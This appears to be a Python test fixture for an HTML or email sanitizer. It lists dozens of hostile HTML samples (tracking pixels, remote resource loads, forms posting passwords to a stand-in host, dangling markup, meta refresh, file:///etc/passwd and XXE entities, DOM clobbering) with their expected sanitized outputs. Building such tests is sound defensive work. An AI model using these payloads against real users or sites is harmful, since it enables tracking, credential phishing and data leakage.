"""Samples that load from another server, send something there or lead there."""

from tests.hostile.sample import Sample

RESOURCES = (
    Sample("remote image", '<img src="http://canary.example/x.gif">', "🖼", "request"),
    Sample("remote image, protocol-relative", '<img src="//canary.example/x.gif">', "🖼", "request"),
    Sample("remote image, backslashes", '<img src="\\\\canary.example/x.gif">', "🖼", "request"),
    Sample(
        "tracking pixel",
        '<img src="http://canary.example/x.gif" width=1 height=1 alt="">',
        "",
        "request",
    ),
    Sample(
        "image with words",
        '<img src="http://canary.example/x.gif" alt="Наш &lt;b&gt; логотип">',
        "Наш &lt;b&gt; логотип",
        "request",
    ),
    Sample(
        "srcset",
        '<img srcset="http://canary.example/x.gif 1x, http://canary.example/y.gif 2x">',
        "🖼",
        "request",
    ),
    Sample(
        "srcset beside a good source",
        '<img src="cid:logo" srcset="http://canary.example/x.gif 1x">',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "request",
    ),
    Sample("lazy image", '<img loading=lazy src="http://canary.example/x.gif">', "🖼", "request"),
    Sample(
        "lowsrc and dynsrc",
        '<img lowsrc="http://canary.example/x.gif" dynsrc="http://canary.example/y.gif" longdesc="http://canary.example/z">',
        "🖼",
        "",
    ),
    Sample(
        "picture",
        '<picture><source srcset="http://canary.example/x.gif"><img></picture>',
        "🖼",
        "request",
    ),
    Sample("image input", '<input type=image src="http://canary.example/x.gif">', "", "request"),
    Sample("svg image", '<svg><image href="http://canary.example/x.gif" /></svg>', "", "request"),
    Sample(
        "svg feImage",
        '<svg><filter id=f><feImage href="http://canary.example/x.gif"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
        "",
        "request",
    ),
    Sample("svg use", '<svg><use href="http://canary.example/x.svg#y"/></svg>', "", ""),
    Sample(
        "svg in an image by the sender",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
        "🖼",
        "",
    ),
    Sample(
        "data image by the sender", '<img src="data:image/png;base64,iVBORw0KGgo=" alt=x>', "x", ""
    ),
    Sample("image of a local file", '<img src="file:///etc/passwd">', "🖼", ""),
    Sample(
        "image by blob", '<img src="blob:null/x"><img src="about:blank"><img src="cid:">', "🖼🖼🖼", ""
    ),
    Sample(
        "unclosed quote swallows what follows", "<img src='http://canary.example/x.gif?", "", ""
    ),
    Sample("dangling markup", "<img src='http://canary.example/?<p>secret</p>'>", "🖼", "request"),
    Sample(
        "background of a cell",
        '<table background="http://canary.example/t.gif"><tr><td background="http://canary.example/x.gif">x</td></tr></table>',
        "<table><tbody><tr><td>x</td></tr></tbody></table>",
        "request",
    ),
    Sample(
        "background of the body", '<body background="http://canary.example/x.gif">x', "x", "request"
    ),
    Sample("video poster", '<video poster="http://canary.example/x.gif"></video>', "", "request"),
    Sample("video", '<video src="http://canary.example/x.mp4" autoplay></video>', "", "request"),
    Sample("audio", '<audio src="http://canary.example/x.mp3" autoplay></audio>', "", "request"),
    Sample(
        "track",
        '<video src="data:,"><track default src="http://canary.example/x.vtt"></video>',
        "",
        "",
    ),
    Sample("iframe", '<iframe src="http://canary.example/"></iframe>', "", "request"),
    Sample("frameset", '<frameset><frame src="http://canary.example/"></frameset>', "", "request"),
    Sample("object", '<object data="http://canary.example/"></object>', "", "request"),
    Sample(
        "object param",
        '<object type="image/svg+xml"><param name=src value="http://canary.example/"></object>',
        "",
        "",
    ),
    Sample("embed", '<embed src="http://canary.example/">', "", "request"),
    Sample(
        "stylesheet link", '<link rel=stylesheet href="http://canary.example/x.css">', "", "request"
    ),
    Sample(
        "alternate stylesheet",
        '<link rel="alternate stylesheet" href="http://canary.example/x.css">',
        "",
        "request",
    ),
    Sample(
        "preload", '<link rel=preload as=image href="http://canary.example/x.gif">', "", "request"
    ),
    Sample("prefetch", '<link rel=prefetch href="http://canary.example/x">', "", "request"),
    Sample(
        "modulepreload", '<link rel=modulepreload href="http://canary.example/x.js">', "", "request"
    ),
    Sample("icon", '<link rel=icon href="http://canary.example/x.ico">', "", ""),
    Sample(
        "dns-prefetch",
        '<link rel=dns-prefetch href="http://canary.example"><link rel=preconnect href="http://canary.example">',
        "",
        "",
    ),
    Sample("manifest", '<link rel=manifest href="http://canary.example/x.json">', "", ""),
    Sample(
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=http://canary.example/">',
        "",
        "request",
    ),
    Sample(
        "meta refresh in the body",
        '<p>x<META HTTP-EQUIV=Refresh CONTENT=" 0 ; URL = http://canary.example/ "></p>',
        "<p>x</p>",
        "request",
    ),
    Sample(
        "meta policy and cookie",
        '<meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url>x',
        "x",
        "",
    ),
    Sample("base", '<base href="http://canary.example/"><img src=x.gif>', "🖼", "request"),
    Sample(
        "base target",
        '<base target=_top><a href="#x">x</a>',
        '<a target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "form",
        '<form action="http://canary.example/"><input name=p type=password><button>Войти</button></form>',
        "Войти",
        "request",
    ),
    Sample(
        "form by get",
        '<form method=get action="http://canary.example/"><select name=a><option>b</option></select><input type=submit></form>',
        "b",
        "request",
    ),
    Sample(
        "form around the page",
        '<form action="http://canary.example/"><table><tr><td><input type=submit value=x></td></tr></table>',
        "<table><tbody><tr><td></td></tr></tbody></table>",
        "request",
    ),
    Sample(
        "formaction elsewhere",
        '<button form=f formaction="http://canary.example/">x</button><form id=f></form>',
        "x",
        "request",
    ),
    Sample(
        "label for something",
        '<form action="http://canary.example/"><label for=s>Показать</label><input id=s type=submit hidden></form>',
        "Показать",
        "request",
    ),
    Sample(
        "ping",
        '<a ping="http://canary.example/p" href="https://example.com/">x</a>',
        '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "link that downloads",
        '<a download=x href="data:,x">x</a>',
        '<a target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "link that keeps its opener",
        '<a href="https://example.com/" rel=opener target=_top>x</a>',
        '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "link without host",
        '<a href="http:x">x</a><a href="https:///x">y</a><a href="//example.com">z</a><a href="/mgs/">a</a><a href="#b">b</a>',
        '<a target="_blank" rel="noopener noreferrer">x</a><a target="_blank" rel="noopener noreferrer">y</a><a target="_blank" rel="noopener noreferrer">z</a><a target="_blank" rel="noopener noreferrer">a</a><a target="_blank" rel="noopener noreferrer">b</a>',
        "",
    ),
    Sample(
        "link with user",
        '<a href="https://bank.example@evil.example/">x</a>',
        '<a href="https://bank.example@evil.example/" target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "clobbering ids",
        '<a id=body name=cookie href="https://example.com/">x</a><form id=document name=forms></form>',
        '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
    Sample(
        "clobbering by img",
        "<img name=getElementById id=querySelector class=danger data-x=y>x",
        "🖼x",
        "",
    ),
    Sample(
        "speculation rules",
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://canary.example/x"]}]}</script>',
        "",
        "",
    ),
    Sample(
        "import map",
        '<script type=importmap>{"imports":{"x":"http://canary.example/x.js"}}</script>',
        "",
        "",
    ),
    Sample(
        "xml stylesheet",
        '<?xml-stylesheet href="http://canary.example/x.css" type="text/css"?>x',
        "x",
        "",
    ),
    Sample(
        "doctype entity",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;x',
        "]&gt;&amp;e;x",
        "",
    ),
    Sample(
        "portal and fencedframe",
        '<portal src="http://canary.example/"></portal><fencedframe src="http://canary.example/"></fencedframe>',
        "",
        "",
    ),
    Sample(
        "bgsound and layer",
        '<bgsound src="http://canary.example/x"><layer src="http://canary.example/y"></layer><ilayer src="http://canary.example/z"></ilayer>',
        "",
        "",
    ),
    Sample(
        "blockquote cite",
        '<blockquote cite="http://canary.example/">x</blockquote><q cite="javascript:alert(1)">y</q>',
        "<blockquote>x</blockquote><q>y</q>",
        "",
    ),
    Sample("html manifest", '<html manifest="http://canary.example/x.appcache">x', "x", ""),
    Sample("profile", '<head profile="http://canary.example/x">x', "x", ""),
    Sample(
        "usemap",
        '<img src="cid:logo" usemap="#m" ismap><map name=m><area href="http://canary.example/"></map>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "request",
    ),
    Sample(
        "attributionsrc",
        '<img attributionsrc="http://canary.example/x"><a attributionsrc="http://canary.example/y" href="https://example.com/">x</a>',
        '🖼<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
        "",
    ),
)
